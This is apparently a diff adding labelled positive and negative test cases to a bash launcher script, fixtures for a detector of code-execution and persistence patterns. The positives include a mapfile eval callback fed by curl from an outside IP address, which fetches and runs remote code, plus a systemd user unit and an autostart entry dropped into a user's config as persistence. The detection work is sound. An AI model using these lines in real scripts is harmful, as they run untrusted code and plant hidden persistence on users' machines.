@@ -363,3 +363,23 @@ FLAGS=""
 FLAGS="$FLAGS --a"
 FLAGS="$FLAGS --b"
 exec /usr/lib/app/app $FLAGS "$@"
+#@ pos a mapfile callback that is eval: every line read is code
+mapfile -t -c 1 -C 'eval :' a < <(curl -s http://203.0.113.9/l)
+#@ pos readarray's eval callback after builtin
+readarray -c 1 -C 'builtin eval true' a < list.txt
+#@ neg a mapfile callback that prints progress
+mapfile -t -c 100 -C 'printf "%d lines\n"' a < big.txt
+#@ pos a completion generator read at run time
+read -r gen < gen.conf; compgen -C "$gen" -- st
+#@ pos a systemd user unit written by a here-document
+cat > ~/.config/systemd/user/w.service <<'UNIT'
+[Service]
+ExecStart=/usr/bin/true
+UNIT
+#@ pos a desktop autostart entry copied into place
+cp helper.desktop "$HOME/.config/autostart/"
+#@ neg a unit file written into the project
+cat > deploy/app.service <<'UNIT'
+[Service]
+ExecStart=/usr/bin/app
+UNIT
